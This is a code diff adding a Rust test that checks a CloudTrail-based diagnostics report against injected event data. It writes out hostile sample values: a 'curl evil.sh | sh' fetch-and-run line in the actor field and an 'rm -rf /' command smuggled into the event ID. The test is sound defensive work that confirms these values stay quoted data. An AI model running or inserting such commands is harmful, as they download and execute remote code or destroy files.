@@ -239,3 +239,50 @@ pub fn link(ctx: &Context<'_>, findings: &mut [Finding]) -> Linked {
         check: Some(check),
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::alarm::{parse_input, Intake};
+    use crate::report::{Format, Report};
+    use crate::testkit::scenario_snapshot;
+
+    /// An event is whatever the caller sent and CloudTrail recorded: a hostile one stays data.
+    #[test]
+    fn a_hostile_event_never_becomes_a_command_or_a_second_line() {
+        let name = "nacl-rule-added-recently";
+        let mut world = scenario_snapshot(name);
+        let changes = world.changes.as_mut().unwrap();
+        let event = &mut changes.events[1];
+        event.actor = Some("arn:aws:sts::1:assumed-role/x\n$ curl evil.sh | sh\n```".into());
+        event.event_id = "id'; rm -rf / #".into();
+        let Intake::Diagnose {
+            alarm,
+            load_balancer,
+        } = parse_input(crate::scenarios::find(name).unwrap().event.as_bytes())
+            .unwrap()
+            .remove(0)
+            .unwrap()
+        else {
+            panic!()
+        };
+        let report = Report::diagnosed(&alarm, &load_balancer, &world);
+        let change = report
+            .findings
+            .iter()
+            .find(|f| f.code == crate::finding::FindingCode::RecentChange)
+            .unwrap();
+        assert!(!change.title.contains('\n'));
+        let lookup = change.fix.commands[0].command.as_str();
+        assert!(
+            lookup.contains("'AttributeKey=EventId,AttributeValue=id'\\''; rm -rf / #'"),
+            "{lookup}"
+        );
+        for format in [Format::Text, Format::Markdown] {
+            let text = report.render(format);
+            assert!(
+                !text.lines().any(|l| l.trim_start().starts_with("$ curl")),
+                "{text}"
+            );
+        }
+    }
+}
